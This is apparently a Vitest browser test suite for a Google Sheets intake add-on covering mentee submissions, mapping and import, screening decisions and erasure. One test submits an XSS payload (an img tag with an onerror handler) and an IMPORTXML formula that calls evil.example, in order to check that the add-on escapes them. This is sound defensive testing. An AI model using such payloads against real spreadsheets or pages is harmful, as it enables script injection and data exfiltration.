import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { artifactPath, openSidebar, usePreviewBrowser } from '../support/browser';

const session = usePreviewBrowser({ beforeAll, afterAll, beforeEach }, { width: 1280, height: 900 });

async function post(url: string, body: unknown) {
  return (await (await fetch(`${session.preview.url}${url}`, { method: 'POST', body: JSON.stringify(body) })).json()) as Record<string, unknown>;
}

async function openIntake() {
  const frame = await openSidebar(session.page, session.preview.url, 'intake');
  await frame.locator('#response-sheets').waitFor();
  return frame;
}

const HOSTILE = '<img src=x onerror="window.__pwned=1">';

describe('intake in the sidebar', () => {
  it('shows a submitted response as a record, and its problem in the open problems', async () => {
    const reply = await post('/__dev/form-submit', {
      sheet: 'Mentee intake',
      answers: {
        'Full name': HOSTILE,
        Email: 'not-an-email',
        'Year of birth': '1990',
        'Languages you speak': ['Klingon', 'English'],
        'What do you need help with most? (first is most important)': ['Housing'],
        'What would you like to achieve?': `=IMPORTXML("http://evil.example","//a") ${'x'.repeat(5000)}`,
        'I agree to the processing of my data': 'Yes, I agree',
      },
    });
    expect(reply.ok).toBe(true);
    expect((reply.triggers as { ok: boolean }[])[0]!.ok).toBe(true);

    const frame = await openIntake();
    const problems = frame.locator('#intake-problems');
    await expect.poll(() => problems.textContent()).toContain('language not recognised: "Klingon"');
    await expect(problems.textContent()).resolves.toContain('"not-an-email" is not an email address');
    // The hostile name is shown as text, never as markup.
    await expect(problems.textContent()).resolves.toContain(HOSTILE);
    await expect(frame.locator('img').count()).resolves.toBe(0);
    expect(await session.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await session.page.screenshot({ path: artifactPath('intake-problems.png') });

    const workbook = (await (await fetch(`${session.preview.url}/__dev/workbook`)).json()) as { sheets: { name: string; values: string[][] }[] };
    const mentees = workbook.sheets.find((s) => s.name === 'Mentees')!.values;
    const last = mentees.at(-1)!;
    expect(last).toContain(HOSTILE);
    expect(last.some((v) => v.startsWith('=IMPORTXML'))).toBe(true);
  });

  it('maps a new response sheet and imports it with a progress bar', async () => {
    const frame = await openIntake();
    await frame.locator('[data-map="Mentee intake"]').click();
    await frame.locator('#mapping-editor').waitFor();
    await expect(frame.locator('#mapping-kind').inputValue()).resolves.toBe('mentee');
    await session.page.screenshot({ path: artifactPath('intake-mapping.png') });
    await frame.locator('#mapping-save').click();
    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Mapping saved');
    await frame.locator('[data-import="Mentee intake"]').click();
    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Import finished: 0 new');
  });

  it('records a screening decision and prepares the feedback message', async () => {
    const frame = await openIntake();
    await frame.locator('#applicants-group > summary').click();
    const applicant = frame.locator('#applicants li').filter({ hasText: 'ME-0002' });
    await applicant.locator('summary').first().click();
    await applicant.locator('select').selectOption('Not selected');
    await applicant.locator('input[type="text"]').first().fill('Lives outside the area');
    await applicant.getByRole('button', { name: 'Save decision' }).click();
    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Decision saved for ME-0002');
    // The list is drawn again, and the sidebar keeps the sections that were open.
    const again = frame.locator('#applicants li').filter({ hasText: 'ME-0002' });
    await again.getByRole('button', { name: 'Feedback message' }).click();
    const message = await again.locator('textarea').inputValue();
    expect(message).toContain('Dear Yonas');
    expect(message).not.toContain('outside the area');
    await session.page.screenshot({ path: artifactPath('intake-feedback.png') });
  });

  it('erases an applicant after the id is typed again to confirm', async () => {
    const frame = await openIntake();
    await frame.locator('#applicants-group > summary').click();
    const item = frame.locator('[data-applicant="ME-0006"]');
    await item.locator('summary').first().click();
    await item.locator('details.erase > summary').click();
    await item.locator('.erase-confirm').fill('ME-0005');
    await item.getByRole('button', { name: 'Erase for good' }).click();
    await expect.poll(() => frame.locator('.notice.error').first().textContent()).toContain('type the person’s id to confirm');
    // A refusal redraws nothing: the sections are still open.
    const again = frame.locator('[data-applicant="ME-0006"]');
    await again.locator('.erase-confirm').fill('ME-0006');
    await again.getByRole('button', { name: 'Erase for good' }).click();
    // The demo's own forms are not the add-on's: the copy Google Forms keeps is counted, with where to delete it.
    await expect
      .poll(() => frame.locator('.notice.warning').first().textContent())
      .toContain('ME-0006 was erased. Google Forms may still keep 1 of their responses');
    await session.page.screenshot({ path: artifactPath('intake-erased.png') });
    const workbook = (await (await fetch(`${session.preview.url}/__dev/workbook`)).json()) as { sheets: { values: string[][] }[] };
    expect(JSON.stringify(workbook)).not.toContain('Bilal');
  });
});
